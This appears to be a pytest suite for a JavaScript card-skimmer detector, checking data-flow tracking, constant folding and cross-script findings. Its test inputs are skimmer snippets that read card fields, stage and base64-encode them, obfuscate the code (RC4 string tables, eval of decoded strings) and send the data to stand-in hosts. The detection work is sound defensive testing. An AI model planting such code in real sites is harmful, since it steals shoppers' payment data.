"""Behaviour facts from the parser, constant folding, data flow across scripts, and the layer's use.

Every snippet here is inert text written for these tests (none is a real sample, none is run).
"""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.features import behaviour as B
from malwaresnipper.engine.features.behaviour import (
    ALL_FIELDS,
    CARD,
    FORM,
    ScriptRef,
    behaviour_facts,
    page_behaviour,
)
from malwaresnipper.engine.features.javascript import extract_js_features
from malwaresnipper.engine.layers.javascript import JavascriptLayer
from malwaresnipper.engine.results import Severity


@pytest.fixture(autouse=True)
def _cold() -> None:
    B.clear_cache()


def facts(text: str, kind: str) -> list[B.Fact]:
    result = behaviour_facts(text)
    assert result.analysed, result.skipped
    return [f for f in result.facts if f.kind == kind]


def sends(text: str) -> list[B.Fact]:
    return facts(text, B.SEND)


def page(*texts: str, host: str = "shop.example.org") -> list[B.BehaviourFinding]:
    refs = [ScriptRef(f"script #{i + 1}", behaviour_facts(t)) for i, t in enumerate(texts)]
    return page_behaviour(refs, host)


def skimmer_findings(*texts: str, host: str = "shop.example.org") -> list[B.BehaviourFinding]:
    return [f for f in page(*texts, host=host) if f.id == "skimmer_exfiltration"]


# -- sources ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("code", "labels", "detail"),
    [
        ("var n = document.getElementById('payment_cc_number').value;", {FORM, CARD}, "#payment_cc_number.value"),
        ("var c = document.querySelector('input[name=\"cvv\"]').value;", {FORM, CARD}, 'input[name="cvv"].value'),
        ("var e = document.getElementsByName('billing[email]')[0].value;", {FORM, B.PERSONAL}, None),
        ("var f = document.querySelectorAll('input, select');\nfor (var i = 0; i < f.length; i++) { s += f[i].value; }",
         {FORM, ALL_FIELDS}, "input, select.value"),
        ("var s = jQuery('#cc-exp').val();", {FORM, CARD}, "#cc-exp.val()"),
        ("var d = $('form#co-payment-form').serialize();", {FORM, CARD}, None),
        ("var d = jQuery('form').serialize();", {FORM, ALL_FIELDS}, None),
        ("var d = new FormData(document.querySelector('form'));", {FORM, ALL_FIELDS}, None),
        ("var d = Form.serialize(payment.form);", {FORM, CARD}, None),
        ("jQuery('input, select').each(function () { q += jQuery(this).val(); });", {FORM, ALL_FIELDS}, None),
    ],
    ids=["by_id_card", "selector_cvv", "by_name_email", "all_fields_loop", "jquery_val", "jquery_serialize_payment",
         "jquery_serialize_all", "form_data", "prototype_form", "jquery_each_val"],
)
def test_form_field_reads_are_sources_with_labels(code: str, labels: set[str], detail: str | None) -> None:
    reads = facts(code, B.FIELD_READ)
    assert reads, "no field read found"
    assert labels <= set(reads[0].carries), reads[0]
    if detail is not None:
        assert reads[0].detail == detail


def test_field_labels_know_card_personal_and_all_fields() -> None:
    assert CARD in B.field_labels("payment[cc_number]")
    assert CARD in B.field_labels("#stripe_cc_cvc")
    assert CARD in B.field_labels("cardholder-name")
    assert B.PERSONAL in B.field_labels("billing:email")
    assert ALL_FIELDS in B.field_labels("input, select, textarea")
    assert ALL_FIELDS not in B.field_labels("input[name=q]")
    assert CARD not in B.field_labels("#search")
    assert B.field_labels("") == frozenset({FORM})


def test_document_wide_listeners_read_every_field() -> None:
    code = ("var d = {}; document.addEventListener('change', function (e) { d[e.target.name] = e.target.value; });\n"
            "window.addEventListener('beforeunload', function () {"
            " navigator.sendBeacon(location.protocol + '//wide.example.net/c', JSON.stringify(d)); });")
    (send,) = sends(code)
    assert send.host == "wide.example.net" and ALL_FIELDS in send.carries
    one_field = code.replace("document.addEventListener", "document.getElementById('q').addEventListener")
    (send,) = sends(one_field)
    assert send.carries_form and ALL_FIELDS not in send.carries


def test_card_data_copied_into_a_form_of_its_own_travels_with_it() -> None:
    code = ("var n = jQuery('[name*=cc_num]').val();\n"
            "jQuery('.grab input[name=a]').val(n);\n"
            "jQuery.post('https://copy.example.net/s', jQuery('.grab').serialize());")
    (send,) = sends(code)
    assert CARD in send.carries and send.host == "copy.example.net"


def test_a_checkout_form_read_whole_is_card_data() -> None:
    code = "jQuery.ajax({url: 'https://stats.example.net/g', data: JSON.stringify(jQuery('#checkout').serializeArray())});"
    (send,) = sends(code)
    assert CARD in send.carries


def test_an_unrelated_value_property_is_not_a_form_read() -> None:
    assert not facts("var it = iterator.next(); var v = it.value; send(v);", B.FIELD_READ)


# -- conditions and hooks --------------------------------------------------------------------------

@pytest.mark.parametrize(
    "code",
    [
        "if (location.href.indexOf('checkout') > -1) { go(); }",
        "if (/onepage|checkout/.test(window.location)) { go(); }",
        "if ((new RegExp('onestep|firecheckout')).test(document.location.href)) { go(); }",
        "if (window.location.pathname == atob('L2NoZWNrb3V0L29uZXBhZ2Uv')) { go(); }",
        "var p = location.pathname; if (p.includes('/cart')) { go(); }",
    ],
    ids=["indexOf", "regex_test", "new_regexp", "atob_compare", "variable"],
)
def test_checkout_conditions(code: str) -> None:
    assert facts(code, B.CHECKOUT_CONDITION)


def test_a_checkout_word_without_the_url_is_no_condition() -> None:
    assert not facts("if (title.indexOf('checkout') > -1) { go(); }", B.CHECKOUT_CONDITION)


@pytest.mark.parametrize(
    ("code", "event"),
    [
        ("document.getElementById('co-form').addEventListener('submit', grab);", "submit"),
        ("jQuery('button').on('click', function () { grab(); });", "click"),
        ("jQuery('#payment').change(function () { grab(); });", "change"),
        ("document.forms[0].onsubmit = function () { grab(); };", "submit"),
    ],
)
def test_form_hooks(code: str, event: str) -> None:
    assert [f.detail for f in facts(code, B.FORM_HOOK)] == [event]


# -- transformation and staging --------------------------------------------------------------------

def test_encodings_on_form_data_are_facts() -> None:
    code = ("var v = document.getElementById('cc_number').value;\n"
            "var a = btoa(v); var b = JSON.stringify({n: v}); var c = encodeURIComponent(v);")
    assert {f.detail for f in facts(code, B.ENCODING)} == {"btoa", "JSON.stringify", "encodeURIComponent"}


def test_own_base64_encoder_is_recognised() -> None:
    code = ("function enc(s) { var k = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/='; "
            "var o = ''; for (var i = 0; i < s.length; i++) { o += k.charAt(s.charCodeAt(i) & 63); } return o; }\n"
            "var d = enc(document.getElementById('cc_cid').value);\n"
            "new Image().src = 'https://img.example.net/p.gif?d=' + d;")
    (send,) = sends(code)
    assert "base64" in send.encodings and CARD in send.carries


def test_storage_and_cookie_writes_and_reads_name_their_keys() -> None:
    code = ("var d = jQuery('form').serialize();\n"
            "localStorage.setItem('_gat_sess', d); sessionStorage['x'] = d;\n"
            "document.cookie = 'pdata=' + btoa(d) + '; path=/';\n"
            "var back = localStorage.getItem('_gat_sess'); var all = document.cookie;")
    writes = {f.detail: f for f in facts(code, B.STAGE_WRITE)}
    assert {"localStorage:_gat_sess", "sessionStorage:x", "cookie:pdata"} <= set(writes)
    assert ALL_FIELDS in writes["localStorage:_gat_sess"].carries
    assert "btoa" in writes["cookie:pdata"].encodings
    assert {f.detail for f in facts(code, B.STAGE_READ)} >= {"localStorage:_gat_sess", "cookie"}


# -- sinks -----------------------------------------------------------------------------------------

SOURCE = "var d = document.getElementById('cc_number').value;\n"


@pytest.mark.parametrize(
    ("code", "sink", "host"),
    [
        ("new Image().src = 'https://a.example.net/i.gif?d=' + d;", "image", "a.example.net"),
        ("var i = document.createElement('img'); i.src = '//b.example.net/p?' + d;", "image", "b.example.net"),
        ("fetch('https://c.example.net/c', {method: 'POST', body: d});", "fetch", "c.example.net"),
        ("var x = new XMLHttpRequest(); x.open('POST', 'https://d.example.net/g'); x.send('v=' + d);",
         "XMLHttpRequest", "d.example.net"),
        ("navigator.sendBeacon('https://e.example.net/b', d);", "sendBeacon", "e.example.net"),
        ("var w = new WebSocket('wss://f.example.net/s'); w.send(d);", "WebSocket", "f.example.net"),
        ("jQuery.ajax({url: 'https://g.example.net/a', type: 'POST', data: {c: d}});", "jQuery.ajax", "g.example.net"),
        ("$.post('https://h.example.net/p', d);", "jQuery.post", "h.example.net"),
        (("var f = document.createElement('form'); f.action = 'https://i.example.net/f';\n"
          "var n = document.createElement('input'); n.value = d; f.appendChild(n); f.submit();"),
         "form.submit", "i.example.net"),
        ("window.open('https://j.example.net/?q=' + d);", "window.open", "j.example.net"),
        ("location.href = 'https://k.example.net/?q=' + d;", "location.href", "k.example.net"),
    ],
    ids=["image", "img_element", "fetch", "xhr", "beacon", "websocket", "ajax", "post", "form_copy", "window_open",
         "location"],
)
def test_sinks_carry_form_data_to_their_host(code: str, sink: str, host: str) -> None:
    found = [f for f in sends(SOURCE + code) if f.carries_form]
    assert found, sends(SOURCE + code)
    assert found[0].detail == sink
    assert found[0].host == host
    assert CARD in found[0].carries


def test_relative_destination_has_no_host() -> None:
    (send,) = sends(SOURCE + "var x = new XMLHttpRequest(); x.open('POST', '/checkout/save'); x.send(d);")
    assert send.host is None and send.relative


def test_data_not_read_from_a_form_is_not_carried() -> None:
    (send,) = sends("var x = new XMLHttpRequest(); x.open('GET', 'https://api.example.net/items');"
                    " x.send(JSON.stringify({page: 2}));")
    assert not send.carries_form


def test_flow_through_variables_objects_parameters_and_returns() -> None:
    code = (
        "function collect() { var o = {}; o['num'] = jQuery('#cc_number').val();\n"
        "  o.exp = document.getElementById('cc_exp').value; return o; }\n"
        "function ship(payload) { var img = new Image(); img.src = 'https://cdn-stat.example.net/t.gif?p=' + payload; }\n"
        "var data = collect(); var packed = btoa(JSON.stringify(data)); ship(packed);\n"
    )
    (send,) = sends(code)
    assert send.host == "cdn-stat.example.net"
    assert CARD in send.carries
    assert {"btoa", "JSON.stringify"} <= send.encodings


def test_a_variable_once_holding_the_location_still_carries_staged_data() -> None:
    code = ("var sd = window.location.host.split(':', 2), data = '';\n"
            "var st = localStorage.getItem('_b'); if (st) { sd = st.split(',', 2); data += '&' + sd[1]; }\n"
            "jQuery.ajax({url: 'https://st.example.net/g', data: data});")
    (send,) = sends(code)
    assert "stage:local:_b" in send.carries


def test_scopes_keep_same_named_locals_apart() -> None:
    code = ("function a() { var e = document.getElementById('cc_number').value; return e.length; }\n"
            "function b() { var e = 'static'; new Image().src = 'https://x.example.net/p?' + e; }")
    assert not any(f.carries_form for f in sends(code))


# -- other attack behaviours -----------------------------------------------------------------------

def test_eval_of_decoded_code_is_a_fact_and_the_code_is_analysed() -> None:
    inner = "var v = document.getElementById('cc_cvv').value; new Image().src = '//k.example.net/?' + v;"
    code = "eval(atob('" + base64.b64encode(inner.encode()).decode() + "'));"
    result = behaviour_facts(code)
    assert [f.detail for f in result.facts if f.kind == B.EXEC_DECODED] == ["eval of decoded code"]
    (send,) = [f for f in result.facts if f.kind == B.SEND]
    assert send.host == "k.example.net" and send.hidden and CARD in send.carries


def test_assembled_code_run_by_function_and_string_timer() -> None:
    assert facts("var c = 'al' + 'ert(1)'; var r = x + c; new Function(r)();", B.EXEC_DECODED)
    assert facts("setTimeout(unescape('%61%6c%65%72%74%28%31%29'), 10);", B.EXEC_DECODED)
    assert not facts("setTimeout(function () { tick(); }, 10);", B.EXEC_DECODED)
    assert not facts("setTimeout('tick()', 700);", B.EXEC_DECODED)


def test_markup_writes_script_and_hidden_iframe() -> None:
    code = ("document.write(unescape('%3Cscript%20src%3D%22https%3A//l.example.net/x.js%22%3E%3C/script%3E'));\n"
            "el.innerHTML = '<iframe src=\"https://m.example.net/\" width=\"0\" height=\"0\"></iframe>';")
    writes = facts(code, B.MARKUP_WRITE)
    assert {f.host for f in writes} == {"l.example.net", "m.example.net"}
    assert any(f.hidden for f in writes if f.host == "l.example.net")
    assert [f.host for f in facts(code, B.IFRAME_INJECTION)] == ["m.example.net"]


def test_inline_script_written_as_markup_is_analysed() -> None:
    code = ("document.write('<script>var v = document.getElementById(\"cc_number\").value;"
            " navigator.sendBeacon(\"https://n.example.net/b\", v);</scr' + 'ipt>');")
    assert any(f.host == "n.example.net" and f.carries_form for f in sends(code))


def test_dynamic_script_and_iframe_injection_and_redirect() -> None:
    code = ("var s = document.createElement('script'); s.src = 'https://o.example.net/lib.js';"
            " document.head.appendChild(s);\n"
            "var f = document.createElement('iframe'); f.style.display = 'none'; f.src = 'https://p.example.net/';"
            " document.body.appendChild(f);\n"
            "window.location = String.fromCharCode(104,116,116,112,115,58,47,47,113,46,101,120,97,109,112,108,101);")
    assert [f.host for f in facts(code, B.SCRIPT_INJECTION)] == ["o.example.net"]
    (iframe,) = facts(code, B.IFRAME_INJECTION)
    assert iframe.host == "p.example.net" and "hidden" in iframe.detail
    (redirect,) = facts(code, B.REDIRECT)
    assert redirect.host == "q.example" and redirect.hidden


# -- constant folding ------------------------------------------------------------------------------

def _host_of(code: str) -> str | None:
    (found,) = facts(code + "\nnew Image().src = u;", B.SEND)
    return found.host


@pytest.mark.parametrize(
    ("expr", "host"),
    [
        ("'https://' + 'r.example' + '.net/p'", "r.example.net"),
        ("'\\x68\\x74\\x74\\x70\\x73://\\u0073.example.net/'", "s.example.net"),
        ("String.fromCharCode(47, 47, 116, 46, 101, 120) + 'ample.net/'", "t.example.net"),
        ("atob('aHR0cHM6Ly91LmV4YW1wbGUubmV0Lw==')", "u.example.net"),
        ("decodeURIComponent('https%3A%2F%2Fv.example.net%2F')", "v.example.net"),
        ("'ten.elpmaxe.w//:sptth'.split('').reverse().join('')", "w.example.net"),
        ("'https://x_example.net/'.replace('_', '.')", "x.example.net"),
        ("['https://', 'y.example', '.net'].join('')", "y.example.net"),
        ("jQuery('<div />').html('&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;z.example.net/').text()", "z.example.net"),
        ("`https://${'aa'}.example.net/`", "aa.example.net"),
    ],
    ids=["concat", "escapes", "fromCharCode", "atob", "uri", "reverse", "replace", "array_join", "entities", "template"],
)
def test_constant_folding_resolves_hidden_hosts(expr: str, host: str) -> None:
    assert _host_of(f"var u = {expr};") == host


@pytest.mark.parametrize(("op", "encode"), [("+2", lambda c: chr(ord(c) - 2)), ("-10", lambda c: chr(ord(c) + 10)),
                                           ("^7", lambda c: chr(ord(c) ^ 7))])
def test_char_code_loops_decode_and_the_decoded_code_is_analysed(op: str, encode: Callable[[str], str]) -> None:
    inner = "var v = document.getElementById('cc_number').value; new Image().src = 'https://loop.example.net/?' + v;"
    hidden = "".join(encode(c) for c in inner).replace("\\", "\\\\").replace("'", "\\'")
    code = ("var x = '" + hidden + "', y = '', z = x['length'];\n"
            "for (i = 0; i < z; i++) { y += String['fromCharCode'](x['charCodeAt'](i)" + op + "); }\n"
            "this['eval'](y);")
    result = behaviour_facts(code)
    assert any(f.kind == B.EXEC_DECODED for f in result.facts)
    (send,) = [f for f in result.facts if f.kind == B.SEND]
    assert send.host == "loop.example.net" and CARD in send.carries


def test_string_table_lookups_resolve() -> None:
    code = ("var _0x12ab = ['\\x73\\x72\\x63', 'https://tbl.example.net/g.php', 'createElement', 'img'];\n"
            "var i = document[_0x12ab[2]](_0x12ab[3]); i[_0x12ab[0]] = _0x12ab[1] + '?d=' + "
            "document.getElementById('cc_number').value;")
    (send,) = sends(code)
    assert send.host == "tbl.example.net" and send.hidden and CARD in send.carries


def _rc4_encode(text: str, key: str) -> str:
    """obfuscator.io's string encoding, the inverse of what the analyser decodes."""
    data = B._rc4(text, key)  # RC4 is its own inverse
    raw = data.encode("utf-8")
    return base64.b64encode(raw).decode()


def test_obfuscator_io_rc4_string_table_with_rotation_is_decoded() -> None:
    plain = ["https://rc4.example.net/c", "getElementById", "cc_number", "value", "sendBeacon"]
    keys = ["k1", "Zz", "@#", "q!", "pw"]
    encoded = [_rc4_encode(p, k) for p, k in zip(plain, keys, strict=False)]
    rotation = 2  # the IIFE rotates the table left by 2 at run time: store it rotated right
    stored = encoded[-rotation:] + encoded[:-rotation]
    table = ",".join(f"'{e}'" for e in stored)
    code = (
        f"var _0xa1=[{table}];"
        "(function(a,n){var f=function(k){while(--k){a['push'](a['shift']());}};f(++n);}(_0xa1,0x2));"
        "var _0xb2=function(i,key){i=i-0x0;var s=_0xa1[i];"
        "var rc4=function(str,k){var box=[],j=0,t,o='';str=atob(str);for(var x=0;x<0x100;x++)box[x]=x;"
        "for(x=0;x<0x100;x++){j=(j+box[x]+k['charCodeAt'](x%k['length']))%0x100;}"
        "return o+String['fromCharCode'](0);};return rc4(s,key);};\n"
        "var v=document[_0xb2('0x1','Zz')](_0xb2('0x2','@#'))[_0xb2('0x3','q!')];"
        "navigator[_0xb2('0x4','pw')](_0xb2('0x0','k1'),v);"
    )
    (send,) = sends(code)
    assert send.detail == "sendBeacon"
    assert send.host == "rc4.example.net" and CARD in send.carries


# -- bounds ----------------------------------------------------------------------------------------

def test_too_large_script_is_skipped_with_a_reason() -> None:
    result = behaviour_facts("var a = 1;\n" * (B.MAX_PARSE_CHARS // 10))
    assert not result.analysed and "longer than" in result.skipped


def test_node_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(B, "MAX_NODES", 50)
    result = behaviour_facts("var a = [" + ",".join(str(i) for i in range(200)) + "];")
    assert not result.analysed and "syntax nodes" in result.skipped


def test_parse_deadline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(B, "PARSE_DEADLINE_S", 0.0)
    result = behaviour_facts("var a = 1;\n" * 20_000)
    assert not result.analysed and "parse took longer" in result.skipped


def test_deep_nesting_is_refused_quickly() -> None:
    import time

    start = time.process_time()
    result = behaviour_facts("[" * 20_000)
    assert not result.analysed and "nested deeper" in result.skipped
    chain = behaviour_facts("a" + "+a" * 100_000)  # a deep left-recursive tree, within the bounds
    assert chain.analysed or chain.skipped
    assert time.process_time() - start < 5


def test_step_budget_marks_truncated(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(B, "MAX_STEPS", 10)
    result = behaviour_facts(SOURCE + "new Image().src = 'https://a.example.net/?' + d + d + d + d + d;")
    assert result.analysed and result.truncated


@pytest.mark.parametrize(
    "text",
    ["\x00\xff" * 500, "(((((((((((" * 500, "var a = " + "[" * 5000, "'\\", "eval(eval(eval('eval(1)')))",
     "a" + "+a" * 20000, "x = '" + "\\x41" * 10000 + "'; eval(x);", "\ud800\udfff" * 10],
    ids=["binary", "parens", "deep_arrays", "broken_escape", "nested_eval", "long_chain", "big_escape", "surrogates"],
)
def test_hostile_input_never_raises(text: str) -> None:
    result = behaviour_facts(text)
    assert isinstance(result, B.ScriptFacts)
    assert result.analysed or result.skipped


def test_self_referencing_decoded_code_is_bounded() -> None:
    code = "var c = 'eval(c)'; eval(c);"
    result = behaviour_facts(code)
    assert result.analysed


# -- the page: flows across scripts ----------------------------------------------------------------

COLLECTOR = (
    "jQuery(document).on('change', 'form', function () {\n"
    "  if (!/onepage|checkout/.test(location.href)) return;\n"
    "  var d = jQuery('input, select').serialize();\n"
    "  localStorage.setItem('_utm_cache', btoa(d));\n"
    "});\n"
)
SENDER = (
    "setInterval(function () {\n"
    "  var p = localStorage.getItem('_utm_cache');\n"
    "  if (p) { var x = new XMLHttpRequest(); x.open('POST', 'https://stat-counter.example.net/c.php'); x.send('z=' + p); }\n"
    "}, 3000);\n"
)


def test_collector_and_sender_in_two_scripts_make_one_skimmer_finding() -> None:
    (finding,) = skimmer_findings(COLLECTOR, SENDER)
    assert finding.severity == "HIGH" and finding.classification == "skimmer"
    assert finding.hosts == ("stat-counter.example.net",)
    assert "btoa" in finding.encodings
    assert {e.location for e in finding.evidence} == {"script #1", "script #2"}
    assert "localStorage:_utm_cache" in finding.title and "another script" in finding.title


def test_each_half_alone_is_no_exfiltration() -> None:
    assert not skimmer_findings(SENDER)
    assert not skimmer_findings(COLLECTOR)
    staged = [f for f in page(COLLECTOR) if f.id == "form_data_staged"]
    assert staged and staged[0].severity == "LOW"


def test_cookie_and_global_staging_cross_scripts() -> None:
    via_cookie = ("var d = jQuery('#co-payment-form').serialize(); document.cookie = '_ga_s=' + encodeURIComponent(d);",
                  "new Image().src = 'https://g-stat.example.net/p.gif?c=' + document.cookie;")
    assert skimmer_findings(*via_cookie)
    via_global = ("window.__pd = document.getElementById('cc_number').value;",
                  "navigator.sendBeacon('https://beacon.example.net/', window.__pd);")
    assert skimmer_findings(*via_global)
    assert not skimmer_findings(via_global[1])


def test_same_site_and_payment_provider_destinations_are_not_skimming() -> None:
    code = SOURCE + "fetch('https://api.shop.example.org/pay', {method: 'POST', body: d});"
    assert not skimmer_findings(code, host="www.shop.example.org")
    assert skimmer_findings(code, host="other-shop.example.com")
    stripe = SOURCE + "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: 'card[number]=' + d});"
    assert not skimmer_findings(stripe)


def test_uncorroborated_all_fields_send_is_medium() -> None:
    code = ("function send() { fetch('https://forms.example.net/f/abc',"
            " {method: 'POST', body: new FormData(document.querySelector('form'))}); }")
    (finding,) = skimmer_findings(code)
    assert finding.severity == "MEDIUM"
    one_form = code.replace("querySelector('form')", "getElementById('contact')")
    assert not skimmer_findings(one_form)


def test_form_hooks_alone_do_not_corroborate() -> None:
    code = ("document.addEventListener('submit', function () {"
            " jQuery.post('https://forms.example.net/f', jQuery('form').serialize()); });")
    (finding,) = skimmer_findings(code)
    assert finding.severity == "MEDIUM"


def test_checkout_loader_finding() -> None:
    code = ("if (/onepage|checkout/.test(window.location)) { var s = document.createElement('script');"
            " s.src = atob('aHR0cHM6Ly9sb2FkZXIuZXhhbXBsZS5uZXQvbS5qcw=='); document.head.appendChild(s); }")
    (loader,) = [f for f in page(code) if f.id == "checkout_loader"]
    assert loader.hosts == ("loader.example.net",) and loader.classification == "skimmer"
    plain = "var s = document.createElement('script'); s.src = 'https://loader.example.net/m.js';"
    assert not [f for f in page(plain) if f.id == "checkout_loader"]


# -- what the engine runs: the prefilter and the layer -------------------------------------------

def test_parse_plan_skips_plain_code_and_keeps_skimmer_shapes() -> None:
    plain = "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));"
    assert B.parse_plan(extract_js_features(plain), plain) is None
    for code in (COLLECTOR, SENDER, SOURCE + "new Image().src = 'https://a.example.net/?' + d;"):
        assert B.parse_plan(extract_js_features(code), code) == ((0, len(code)),)


@pytest.mark.parametrize(
    "code",
    [
        ("var h = 'https://'; b.ajax({url: h + 'host-only.example.net/g.php', data: q, type: 'POST'});"
         " var q = document.querySelector('#cc_number').value;"),
        "this['eval']('" + "".join(f"\\{ord(c):o}" for c in "var a = document.forms[0].elements; send(a);" * 3) + "');",
        "this['eval'](this['unescape']('" + "".join(f"%{ord(c):02x}" for c in "var a = document.cookie; go(a);" * 5) + "'));",
    ],
    ids=["host_without_scheme", "octal_escaped_code", "percent_escaped_code"],
)
def test_parse_plan_sees_hidden_destinations_and_escaped_code(code: str) -> None:
    assert B.parse_plan(extract_js_features(code), code) is not None


def test_parse_plan_parses_windows_of_a_large_script() -> None:
    library = "".join(f"function f{i}(a) {{ return a * {i} + (a >> 2); }}\n" for i in range(2500))
    skimmer = SOURCE + "new Image().src = 'https://append.example.net/i.gif?d=' + d;\n"
    text = library + skimmer
    plan = B.parse_plan(extract_js_features(text), text)
    assert plan is not None and plan != ((0, len(text)),)
    assert sum(hi - lo for lo, hi in plan) < len(text) // 4
    result = behaviour_facts(text, plan)
    (send,) = [f for f in result.facts if f.kind == B.SEND]
    assert text[send.offset:send.end].startswith("new Image().src")


def _layer(*scripts: str, url: str = "https://shop.example.org/checkout/onepage/"):
    capture = Capture.build(url, scripts=[{"url": f"https://shop.example.org/js/s{i}.js", "text": t, "inline": False}
                                          for i, t in enumerate(scripts)])
    return JavascriptLayer(EngineConfig()).analyze(capture, Features(capture))


def test_layer_reports_the_cross_script_skimmer_with_evidence() -> None:
    result = _layer(COLLECTOR, SENDER)
    (indicator,) = [i for i in result.indicators if i.id == "javascript.skimmer_exfiltration"]
    assert indicator.severity is Severity.HIGH and indicator.classification == "skimmer"
    assert "stat-counter.example.net" in indicator.title
    locations = [e.location for e in indicator.evidence]
    assert locations[0].endswith("s1.js") and any(loc.endswith("s0.js") for loc in locations)
    assert any("setItem" in e.snippet for e in indicator.evidence)
    assert result.score >= 80
    assert result.details["behaviour"]["parsed"] == 2


def test_layer_leaves_a_payment_sdk_call_alone() -> None:
    sdk = ("var stripe = Stripe('pk_test_123'); var card = elements.create('card');\n"
           "form.addEventListener('submit', function (e) { e.preventDefault();\n"
           "  stripe.createToken(card).then(function (r) { var h = document.getElementById('token');"
           " h.value = r.token.id; fetch('/checkout/pay', {method: 'POST', body: new FormData(form)}); }); });")
    result = _layer(sdk)
    assert not [i for i in result.indicators if i.id.startswith("javascript.skimmer_exfiltration")]


def test_layer_says_which_scripts_were_not_parsed() -> None:
    result = _layer("var a = 1;", COLLECTOR)
    assert result.details["behaviour"]["not_parsed"] == {"no behaviour hint": 1}
